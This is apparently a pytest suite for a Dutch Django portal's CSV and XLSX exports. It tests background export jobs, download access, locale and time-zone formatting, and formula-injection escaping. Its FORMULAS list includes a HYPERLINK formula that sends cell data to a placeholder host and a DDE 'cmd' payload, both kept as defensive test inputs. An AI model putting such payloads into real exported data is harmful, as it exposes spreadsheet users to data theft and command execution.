"""Large list exports run as a background job; only the user who asked downloads the file.
Exports hold plain text and never a live spreadsheet formula."""

import datetime as dt
import hashlib
import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.text import capfirst

from brokers.models import BudgetLine
from impactportal import exports
from impactportal.models import Job
from tests import factories as f
from tests.csv_export import csv_cells, csv_rows

pytestmark = pytest.mark.django_db


@pytest.fixture
def lines(haarlem, amersfoort):
    for year in range(2001, 2011):
        BudgetLine.objects.create(organisation=haarlem, year=year, kind="network", amount=1000)
    BudgetLine.objects.create(organisation=amersfoort, year=2005, kind="network", amount=99999)


def test_small_export_is_immediate(login, broker_haarlem, lines, monkeypatch):
    monkeypatch.setattr(exports, "SYNC_EXPORT_LIMIT", 100)
    response = login(broker_haarlem).get(reverse("brokers:budget-list") + "?_export=csv")
    assert response.status_code == 200 and response.content.decode().count("\n") == 11
    assert not Job.objects.exists()


def test_large_export_becomes_a_job_with_a_download(client, broker_haarlem, lines, monkeypatch,
                                                     django_capture_on_commit_callbacks):
    monkeypatch.setattr(exports, "SYNC_EXPORT_LIMIT", 5)
    client.force_login(broker_haarlem)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("brokers:budget-list") + "?year=2005&_export=csv")
    # A filter that leaves one row stays synchronous …
    assert response.status_code == 200 and not Job.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("brokers:budget-list") + "?_export=csv")
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == reverse("job-detail", args=[job.pk])
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED and job.kind == "export"
    page = client.get(reverse("job-detail", args=[job.pk])).content.decode()
    assert 'id="job-download"' in page
    download = client.get(reverse("job-detail", args=[job.pk]) + "?download=1")
    body = b"".join(download.streaming_content).decode()
    # … and the file holds exactly the rows the broker sees: ten Haarlem lines, no Amersfoort.
    assert body.count("\n") == 11 and "99999" not in body
    # Running the task again changes nothing.
    assert exports.export_list(view="brokers.views.BudgetList", query="", export_format="csv", language="nl",
                               job_id=job.pk) == job.file.name


def test_only_the_requester_downloads(login, broker_haarlem, broker_amersfoort, haarlem):
    job = Job.objects.create(kind="export", title="Export", created_by=broker_haarlem, organisation=haarlem,
                             status=Job.Status.SUCCEEDED, result={"file": "exports/1-x.csv"})
    colleague_broker = f.broker(haarlem, "tweede-makelaar")
    url = reverse("job-detail", args=[job.pk]) + "?download=1"
    assert login(broker_amersfoort).get(url).status_code == 404
    assert login(colleague_broker).get(url).status_code == 403


# --- one writer for the request and the job: same bytes, no request replayed ----------------


def _today():
    from django.utils import timezone

    return timezone.localdate().isoformat()


def _background(client, url, query, monkeypatch, django_capture_on_commit_callbacks):
    """Export ``url?query`` once in the request and once as a job; returns both files and the job."""
    monkeypatch.setattr(exports, "SYNC_EXPORT_LIMIT", 10_000)
    sync = client.get(url + "?" + query)
    assert sync.status_code == 200
    monkeypatch.setattr(exports, "SYNC_EXPORT_LIMIT", 0)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(url + "?" + query)
    job = Job.objects.latest("pk")
    assert response.status_code == 302 and response.url == reverse("job-detail", args=[job.pk])
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error
    download = client.get(reverse("job-detail", args=[job.pk]) + "?download=1")
    return sync.content, b"".join(download.streaming_content), job, download


def test_background_csv_equals_the_synchronous_csv(client, broker_haarlem, lines, monkeypatch,
                                                   django_capture_on_commit_callbacks):
    client.force_login(broker_haarlem)
    query = "kind=network&sort=-year&_export=csv"
    sync, background, job, download = _background(client, reverse("brokers:budget-list"), query, monkeypatch,
                                                  django_capture_on_commit_callbacks)
    assert background == sync
    rows = csv_rows(sync)
    assert len(rows) == 11 and rows[1][1] == "2010"  # sorted as asked, Haarlem only
    assert job.rows == 10 and job.checksum == hashlib.sha256(sync).hexdigest()
    # The file is private: stored outside any served URL and downloaded with the private-file headers.
    assert job.file.name.startswith(f"jobs/{job.pk}/")
    assert download["X-Content-Type-Options"] == "nosniff" and "no-store" in download["Cache-Control"]
    assert download["Content-Disposition"] == f'attachment; filename="begrotingsregels-{_today()}.csv"'
    page = client.get(reverse("job-detail", args=[job.pk])).content.decode()
    assert "10 regels" in page


def test_background_export_uses_the_requesters_language(client, broker_haarlem, lines, monkeypatch,
                                                         django_capture_on_commit_callbacks, settings):
    client.force_login(broker_haarlem)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    sync, background, job, _ = _background(client, reverse("brokers:budget-list"), "_export=csv", monkeypatch,
                                           django_capture_on_commit_callbacks)
    assert background == sync and "Organisation" in sync.decode().splitlines()[0]
    # The job's message is written in the language of whoever reads its page (stored as its message id).
    assert client.get(reverse("job-detail", args=[job.pk]), HTTP_HX_REQUEST="true").content.decode().count(
        "The export is ready.") == 1
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "nl"
    assert "De export is klaar." in client.get(reverse("job-detail", args=[job.pk])).content.decode()


def test_background_inbox_export_filters_for_the_requester(client, broker_haarlem, haarlem, monkeypatch,
                                                          django_capture_on_commit_callbacks):
    """``assignee=me`` reads the user from the FilterSet's request: the job must pass the requester."""
    from brokers.models import Case

    colleague_broker = f.broker(haarlem, "tweede-makelaar")
    for i, assignee in enumerate([broker_haarlem, colleague_broker, None]):
        Case.objects.create(organisation=haarlem, subject=f"Vraag {i}", category="financing",
                            description="x", assigned_to=assignee)
    client.force_login(broker_haarlem)
    sync, background, job, _ = _background(client, reverse("helpdesk:inbox"), "assignee=me&_export=csv",
                                           monkeypatch, django_capture_on_commit_callbacks)
    assert background == sync and job.rows == 1
    assert "Vraag 0" in sync.decode() and "Vraag 1" not in sync.decode()


def test_background_xlsx_is_written_and_readable(client, broker_haarlem, lines, monkeypatch,
                                                 django_capture_on_commit_callbacks):
    client.force_login(broker_haarlem)
    sync, background, job, download = _background(client, reverse("brokers:budget-list"), "_export=xlsx",
                                                  monkeypatch, django_capture_on_commit_callbacks)
    assert download["Content-Disposition"] == f'attachment; filename="begrotingsregels-{_today()}.xlsx"'
    assert _xlsx_values(background) == _xlsx_values(sync) and len(_xlsx_values(sync)) == 11 and job.rows == 10


def test_job_finish_file_takes_bytes_or_a_file(haarlem, broker_haarlem):
    from impactportal.jobs import job_finish_file

    for content in (b"a,b\r\n1,2\r\n", io.BytesIO(b"a,b\r\n1,2\r\n")):
        job = Job.objects.create(kind="report", title="Rapport", created_by=broker_haarlem, organisation=haarlem)
        done = job_finish_file(job.pk, "rapport.csv", content, rows=1, message="Klaar")
        assert done.status == Job.Status.SUCCEEDED and done.progress == 100 and done.rows == 1
        assert done.checksum == hashlib.sha256(b"a,b\r\n1,2\r\n").hexdigest()
        assert done.file.name == f"jobs/{job.pk}/rapport.csv" and done.file.read() == b"a,b\r\n1,2\r\n"


def test_export_list_refuses_a_view_that_is_not_a_list(broker_haarlem, haarlem):
    job = Job.objects.create(kind="export", title="Export", created_by=broker_haarlem, organisation=haarlem)
    result = exports.export_list.apply(kwargs={"view": "brokers.views.BudgetDetail", "query": "",
                                               "export_format": "csv", "language": "nl", "job_id": job.pk})
    assert isinstance(result.result, TypeError)
    job.refresh_from_db()
    assert job.status == Job.Status.FAILED and not job.file


def test_only_csv_and_xlsx_are_exports(login, broker_haarlem, lines):
    """Other tablib formats bypassed the cell cleaning; they are no export at all now."""
    client = login(broker_haarlem)
    for fmt in ("json", "yaml", "latex", "tsv", "ods"):
        response = client.get(reverse("brokers:budget-list"), {"_export": fmt})
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")


def test_register_export_reads_in_chunks_with_prefetches(login, broker_haarlem, haarlem,
                                                         django_assert_max_num_queries, monkeypatch):
    from enterprises.models import Enterprise, ImpactTheme

    theme = ImpactTheme.objects.create(name="Circulaire economie", slug="circulair-test")
    for i in range(12):
        f.EnterpriseFactory(name=f"Bedrijf {i}", municipality=haarlem).themes.add(theme)
    monkeypatch.setattr(exports, "CHUNK_SIZE", 5)  # three chunks, each with its own prefetch query
    client = login(broker_haarlem)
    with django_assert_max_num_queries(25):
        body = client.get(reverse("enterprises:register"), {"_export": "csv"}).content.decode()
    assert body.count(theme.name) == 12 and len(body.splitlines()) == Enterprise.objects.count() + 1


# --- formula injection and HTML in exports ---------------------------------------------------

HYPERLINK = '=HYPERLINK("http://x"&A1,"click")'
FORMULAS = [HYPERLINK, "=1+2", "@SUM(1+9)*cmd|' /C calc'!A0", "+31 6 1234", "-2+3", "\tTab", "\rCR"]


def _xlsx_cells(content: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def _xlsx_values(content: bytes):
    return [[cell.value for cell in row] for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()]


def _assert_no_live_formula(cells):
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(exports.FORMULA_TRIGGERS), cell.value


@pytest.mark.parametrize("value", FORMULAS)
def test_export_cell_neutralises_formula_text(value):
    assert exports.export_cell(value) == "'" + value


@pytest.mark.parametrize("value", [Decimal("-250.50"), -3, 0, 2.5, None, True, "Fietsen & zo", "'al veilig"])
def test_export_cell_keeps_numbers_and_plain_text(value):
    assert exports.export_cell(value) == value
    assert type(exports.export_cell(value)) is type(value)


def test_export_cell_turns_rendered_html_into_plain_text():
    from django.utils.html import format_html

    assert exports.export_cell(format_html('<a href="/x/">{}</a>', "Fietsen & zo")) == "Fietsen & zo"
    assert exports.export_cell(format_html('<a href="/x/">{}</a>', "=1+2")) == "'=1+2"


def test_negative_amounts_stay_numbers_in_xlsx_and_csv():
    import django_tables2 as tables

    class AmountTable(tables.Table):
        label = tables.Column()
        amount = tables.Column()

    table = AmountTable([{"label": "-korting", "amount": Decimal("-250.50")}])
    xlsx = exports.PortalTableExport("xlsx", table).export()
    label, amount = openpyxl.load_workbook(io.BytesIO(xlsx)).active[2]
    assert amount.data_type == "n" and amount.value == -250.5
    assert label.data_type == "s" and label.value == "'-korting"
    assert csv_rows(exports.PortalTableExport("csv", table).export())[1] == ["'-korting", "-250,50"]
    with translation.override("en"):
        assert csv_rows(exports.PortalTableExport("csv", table).export(), ",")[1] == ["'-korting", "-250.50"]


def test_xlsx_amounts_and_dates_carry_formats_a_spreadsheet_shows_in_its_own_locale():
    """Amounts showed as 1250.75 and dates as 2026-12-05 00:00:00 whatever the reader's Excel."""
    import django_tables2 as tables

    from impactportal.ui.columns import MoneyColumn

    class MixedTable(tables.Table):
        amount = MoneyColumn()
        share = tables.Column()
        day = tables.Column()
        moment = tables.Column()
        count = tables.Column()
        # A percentage and a ratio carry two decimals too, but are no amounts: "5", not "5,00".
        percentage = tables.Column()
        ratio = tables.Column()

    table = MixedTable([{"amount": Decimal("1250.75"), "share": Decimal("2.5"), "day": dt.date(2026, 12, 5),
                         "moment": dt.datetime(2026, 12, 5, 9, 30), "count": 12, "percentage": Decimal("5.00"),
                         "ratio": Decimal("0.38")}])
    row = openpyxl.load_workbook(io.BytesIO(exports.PortalTableExport("xlsx", table).export())).active[2]
    formats = [cell.number_format for cell in row]
    assert formats == [exports.AMOUNT_FORMAT, "General", exports.DATE_FORMAT, exports.DATETIME_FORMAT, "General",
                       "General", "General"]
    assert openpyxl.styles.numbers.BUILTIN_FORMATS[14] == exports.DATE_FORMAT  # shown in the reader's locale
    assert openpyxl.styles.numbers.BUILTIN_FORMATS[22] == exports.DATETIME_FORMAT
    assert [cell.value for cell in row] == [1250.75, 2.5, dt.datetime(2026, 12, 5), dt.datetime(2026, 12, 5, 9, 30),
                                            12, 5, 0.38]


def test_register_exports_neutralise_an_enterprise_name_formula(login, broker_haarlem, haarlem):
    f.EnterpriseFactory(name=HYPERLINK, municipality=haarlem)
    client = login(broker_haarlem)
    url = reverse("enterprises:register")
    cells = _xlsx_cells(client.get(url, {"_export": "xlsx"}).content)
    name = next(cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value)
    assert name.data_type == "s" and name.value == "'" + HYPERLINK
    _assert_no_live_formula(cells)
    exported = csv_cells(client.get(url, {"_export": "csv"}).content)
    assert "'" + HYPERLINK in exported
    assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in exported)


def test_contact_moment_exports_neutralise_formulas(login, broker_haarlem, haarlem, enterprise_haarlem):
    from enterprises.models import ContactMoment

    for subject in FORMULAS[1:3]:
        ContactMoment.objects.create(organisation=haarlem, enterprise=enterprise_haarlem, subject=subject,
                                     owner=broker_haarlem)
    client = login(broker_haarlem)
    url = reverse("enterprises:contact-list")
    exported = csv_cells(client.get(url, {"_export": "csv"}).content)
    assert {"'=1+2", "'@SUM(1+9)*cmd|' /C calc'!A0"} <= set(exported)
    assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in exported)
    _assert_no_live_formula(_xlsx_cells(client.get(url, {"_export": "xlsx"}).content))


def test_helpdesk_export_holds_the_plain_subject(login, broker_haarlem, haarlem):
    from brokers.models import Case

    Case.objects.create(organisation=haarlem, subject="=1+2", category="financing", description="x",
                        priority="high")
    Case.objects.create(organisation=haarlem, subject="Lening & subsidie", category="financing", description="x")
    client = login(broker_haarlem)
    body = client.get(reverse("helpdesk:inbox"), {"_export": "csv"}).content.decode()
    cells = csv_cells(body.encode())
    assert "<a " not in body and "utrecht-link" not in body and "&amp;" not in body
    assert "'=1+2" in cells and "Lening & subsidie" in cells
    _assert_no_live_formula(_xlsx_cells(client.get(reverse("helpdesk:inbox"), {"_export": "xlsx"}).content))


@pytest.fixture
def every_list(haarlem, region, broker_haarlem, enterprise_haarlem, contact_haarlem_moment, lines):
    from brokers.models import BrokerTeam, Case
    from ecosystem.models import Party, RegionalAgreement
    from enterprises.models import Certification

    BrokerTeam.objects.create(organisation=haarlem, name="=Team")
    Case.objects.create(organisation=haarlem, subject="=Vraag", category="financing", description="x",
                        enterprise=enterprise_haarlem, priority="high")
    Certification.objects.create(enterprise=enterprise_haarlem, scheme=Certification._meta.get_field(
        "scheme").choices[0][0], number="=1")
    RegionalAgreement.objects.create(region=region, title="=Afspraak")
    Party.objects.create(name="=Partij", category=Party._meta.get_field("category").choices[0][0],
                         website="https://example.org/")


@pytest.fixture
def contact_haarlem_moment(haarlem, enterprise_haarlem, broker_haarlem):
    from enterprises.models import ContactMoment

    return ContactMoment.objects.create(organisation=haarlem, enterprise=enterprise_haarlem, subject="=Gesprek",
                                        owner=broker_haarlem)


@pytest.mark.parametrize("route", ["enterprises:register", "enterprises:certification-list",
                                   "enterprises:contact-list", "helpdesk:inbox", "brokers:team-list",
                                   "brokers:budget-list", "ecosystem:agreement-list", "ecosystem:party-list"])
def test_no_export_holds_html_or_a_formula(login, broker_haarlem, every_list, route):
    client = login(broker_haarlem)
    csv_body = client.get(reverse(route), {"_export": "csv"})
    assert csv_body.status_code == 200 and csv_body["Content-Type"].startswith("text/csv")
    text = csv_body.content.decode()
    assert len(text.splitlines()) >= 2 and "<a " not in text and "<span" not in text
    assert not any(cell.startswith(exports.FORMULA_TRIGGERS) for cell in csv_cells(csv_body.content))
    cells = _xlsx_cells(client.get(reverse(route), {"_export": "xlsx"}).content)
    _assert_no_live_formula(cells)
    assert not any(isinstance(cell.value, str) and "<a " in cell.value for cell in cells)


def test_background_export_reports_its_progress(client, broker_haarlem, lines, monkeypatch,
                                               django_capture_on_commit_callbacks):
    """The job page's bar moves while rows are written (issue 9: progress visible in make run)."""
    seen = []
    real = exports.job_progress
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 3)
    monkeypatch.setattr(exports, "job_progress", lambda job_id, value, message="": (
        seen.append((value, message)), real(job_id, value, message)))
    client.force_login(broker_haarlem)
    _background(client, reverse("brokers:budget-list"), "_export=csv", monkeypatch,
                django_capture_on_commit_callbacks)
    values = [value for value, _message in seen]
    assert values[0] == 10 and values[1:] == sorted(values[1:]) and len(set(values)) >= 3
    assert all(10 < value < 100 for value in values[1:])
    assert "3 van 10 regels geschreven" in seen[1][1]


def test_yes_no_columns_export_as_yes_no_not_true_false(login, broker_haarlem, haarlem):
    """django-tables2 wrote "True"/"False" into every export: CSV now says ja/nee (yes/no in
    English), XLSX holds a real boolean the spreadsheet shows in its own language."""
    f.EnterpriseFactory(name="Zichtbaar BV", municipality=haarlem, is_published=True)
    f.EnterpriseFactory(name="Onzichtbaar BV", municipality=haarlem, is_published=False)
    client = login(broker_haarlem)
    url = reverse("enterprises:register")
    rows = csv_rows(client.get(url, {"_export": "csv"}).content)
    published = rows[0].index("Gepubliceerd in de etalage")
    by_name = {row[0]: row[published] for row in rows[1:]}
    assert by_name["Zichtbaar BV"] == "ja" and by_name["Onzichtbaar BV"] == "nee"
    assert not any(cell in ("True", "False") for row in rows for cell in row)
    client.cookies["django_language"] = "en"
    english = csv_rows(client.get(url, {"_export": "csv"}).content, ",")
    client.cookies["django_language"] = "nl"
    assert {row[published] for row in english[1:]} == {"yes", "no"}
    values = _xlsx_values(client.get(url, {"_export": "xlsx"}).content)
    assert {row[published] for row in values[1:]} == {True, False}


@pytest.mark.parametrize(("moment", "written"), [
    (dt.datetime(2026, 12, 28, 23, 0, tzinfo=dt.UTC), dt.datetime(2026, 12, 29, 0, 0)),  # CET: the next day
    (dt.datetime(2026, 7, 1, 14, 0, 30, 399372, tzinfo=dt.UTC), dt.datetime(2026, 7, 1, 16, 0, 30)),  # CEST
    (dt.datetime(2026, 7, 1, 16, 0), dt.datetime(2026, 7, 1, 16, 0)),  # already local
])
def test_moments_export_in_the_portals_time_zone(moment, written):
    """A deadline at midnight in Amsterdam was exported as "23:00+00:00" of the day before."""
    assert exports.export_cell(moment) == written


def test_helpdesk_export_writes_deadlines_in_local_time(login, broker_haarlem, haarlem):
    """"Uiterlijk opgelost" at midnight in Amsterdam was exported as 23:00 UTC of the day before,
    and then as that midnight ("2026-12-29 00:00"), a day later than the list's "28-12-2026": the
    export writes the day the list shows."""
    from brokers.models import Case

    case = Case.objects.create(organisation=haarlem, subject="Deadline", category="financing", description="x")
    Case.objects.filter(pk=case.pk).update(resolution_due=dt.datetime(2026, 12, 28, 23, 0, tzinfo=dt.UTC),
                                           submitted_at=dt.datetime(2026, 12, 1, 9, 30, 15, 526599, tzinfo=dt.UTC))
    rows = csv_rows(login(broker_haarlem).get(reverse("helpdesk:inbox"), {"_export": "csv"}).content)
    row = dict(zip(rows[0], next(r for r in rows[1:] if "Deadline" in r), strict=True))
    assert row["Uiterlijk opgelost"] == "2026-12-28"
    assert row["Ingediend"] == "2026-12-01 10:30:15"
    values = _xlsx_values(login(broker_haarlem).get(reverse("helpdesk:inbox"), {"_export": "xlsx"}).content)
    sheet_row = dict(zip(values[0], next(r for r in values[1:] if "Deadline" in r), strict=True))
    assert sheet_row["Uiterlijk opgelost"] == dt.datetime(2026, 12, 28, 0, 0)  # a date the sheet can sort


def test_a_zero_amount_computed_in_sql_keeps_the_amount_format(login, broker_haarlem, haarlem):
    """A fund without investments: PostgreSQL returned the coalesced literal as 0, not 0.00, and
    the XLSX showed "0" in a column of "80.000,00". SQLite gives the same 0."""
    from financing.models import ImpactFund

    ImpactFund.objects.create(name="Startersfonds Haarlem", organisation=haarlem)
    rows = openpyxl.load_workbook(io.BytesIO(
        login(broker_haarlem).get(reverse("financing:fund-list"), {"_export": "xlsx"}).content)).active
    header, row = [cell.value for cell in rows[1]], rows[2]
    invested = row[header.index("Geïnvesteerd")]
    assert invested.value == 0 and invested.number_format == exports.AMOUNT_FORMAT


def test_the_sheet_is_named_as_the_list_is(login, broker_haarlem):
    """title() made "Sroi-Contracten" of "SROI-contracten"."""
    from procurement.models import Contract

    content = login(broker_haarlem).get(reverse("procurement:contract-list"), {"_export": "xlsx"}).content
    assert openpyxl.load_workbook(io.BytesIO(content)).active.title == capfirst(Contract._meta.verbose_name_plural)
    assert "SROI" in str(Contract._meta.verbose_name_plural)
